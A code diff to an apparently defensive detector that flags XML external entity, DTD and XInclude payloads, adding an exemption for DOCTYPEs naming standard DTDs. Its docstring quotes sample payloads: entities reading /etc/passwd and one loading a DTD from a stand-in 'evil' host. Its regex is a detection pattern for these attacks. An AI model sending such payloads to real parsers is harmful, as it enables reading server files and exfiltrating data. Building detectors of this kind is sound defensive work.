@@ -12,6 +12,10 @@ Why
     wrote the DTD, and nested entities exhaust memory (billion laughs). Data sent to an API
     has no reason to carry a DTD.
 
+    A document type that only names a published standard (``<!DOCTYPE html PUBLIC
+    "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/..."``, an Apple property list) is
+    left alone: HTML e-mails carry one.
+
 Examples
     ``<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>``,
     ``<!ENTITY % dtd SYSTEM "http://evil/x.dtd"> %dtd;``, ``<xi:include href="/etc/passwd"/>``.
@@ -37,6 +41,22 @@ _PATTERN = re.compile(
     r"|<xsl:(?:stylesheet|value-of|copy-of|include|import)\b[^>]{0,256}(?:document|unparsed-text|system-property)\s?\("
     r"|\bunparsed-text\s?\(|<!\[cdata\[[^\]]{0,256}<!entity"
 )
+# A document type that only names a published standard DTD: a public identifier alone, or
+# with the standard's URL on its publisher's host (XHTML and HTML 4 e-mails, Apple property
+# lists, Spring and Hibernate configurations), or HTML5's ``about:legacy-compat``. With no
+# internal subset and no URL an attacker controls, it declares nothing and loads nothing
+# from an attacker.
+_STANDARD_HOSTS = (
+    r"(?:www\.)?(?:w3\.org|apple\.com|(?:docs\.)?oasis-open\.org|java\.sun\.com|(?:[\w-]+\.)?apache\.org"
+    r"|hibernate\.org|hibernate\.sourceforge\.net|springframework\.org|mybatis\.org|ietf\.org"
+    r"|xmlns\.jcp\.org|jboss\.org)"
+)
+_STANDARD_DOCTYPE = re.compile(
+    r"<!doctype\s+[\w:.-]+\s+(?:public\s+\"-//[^\"]{1,160}\""
+    rf"(?:\s+\"https?://{_STANDARD_HOSTS}/[^\"\s<>]{{0,256}}\")?"
+    r"|system\s+[\"']about:legacy-compat[\"'])\s?>"
+)
+MAX_DOCTYPES = 16
 # Marks every shape above needs (substring tests in C); text without any is skipped.
 NEEDLES = ("<!", "<xi:", "xinclude", "unparsed", "<xsl:")
 
@@ -47,6 +67,12 @@ def detect_views(v: Views) -> Match | None:
     if not (("<" in low and any_in(low, NEEDLES[:2] + NEEDLES[4:])) or any_in(low, NEEDLES[2:4])):
         return None
     m = _PATTERN.search(low)
+    for _ in range(MAX_DOCTYPES):
+        if m is None or not (
+            m.group().startswith("<!doctype") and _STANDARD_DOCTYPE.match(low, m.start())
+        ):
+            break
+        m = _PATTERN.search(low, m.end())
     if m:
         return hit(v, m.start(), m.end(), "XML entity or DTD declaration")
     return None
